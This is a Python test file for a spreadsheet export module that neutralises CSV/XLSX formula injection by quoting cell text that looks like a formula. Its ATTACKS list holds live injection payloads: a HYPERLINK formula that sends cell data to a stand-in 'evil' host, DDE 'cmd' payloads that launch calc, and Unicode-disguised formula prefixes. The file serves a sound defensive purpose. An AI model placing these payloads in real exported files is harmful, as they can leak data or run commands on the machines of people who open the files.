"""What a spreadsheet would run is marked as text, and stays readable; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from evidence.spreadsheet import csv_of, xlsx_of
from evidence.statistics.cells import Cell, neutral

ATTACKS = (
    '=HYPERLINK("http://evil/?x="&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\ufe661",  # small =
    "\u22121+1",  # minus sign
    "\ufeff=1+1",
    "\u200b=1+1",
    "  =1+1",
    "\u3000=1+1",
    "\x00=1",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_becomes_text(text: str) -> None:
    assert neutral(text) == f"'{text}"


@pytest.mark.parametrize("value", ["350200310000", "思明分局", "a=b", "'x", "", 0, -1, -0.5, None])
def test_everything_else_stays(value: str | float | None) -> None:
    assert neutral(value) == value


@given(st.text())
def test_no_text_begins_like_a_formula(text: str) -> None:
    seen = str(neutral(text)).lstrip()
    visible = [each for each in seen if unicodedata.category(each) not in {"Cf", "Cc"}]
    begin = unicodedata.normalize("NFKC", visible[0])[:1] if visible else ""

    assert begin not in {"=", "+", "-", "@"}


@pytest.mark.parametrize("text", [*ATTACKS, '"=1', 'a";=1', "a,=1\r\n=2"])
def test_a_cell_of_the_files_is_never_a_formula(text: str) -> None:
    sheet: list[list[Cell]] = [["unit", "count", "rate"], [text, -1, 0.5], [None, 7, None]]
    rows = list(csv.reader(io.StringIO(csv_of(sheet).decode("utf-8-sig"), newline="")))
    (cell, number, rate) = list(load_workbook(io.BytesIO(xlsx_of(sheet)))["statistics"].rows)[1]

    assert rows[1] == [str(neutral(text)), "-1", "0.5"]
    assert cell.data_type == "s"
    assert (number.value, rate.value) == (-1, 0.5)
    assert len(rows) == 3


def test_excel_knows_the_csv_for_utf8() -> None:
    assert csv_of([["思明"]]).startswith(b"\xef\xbb\xbf")
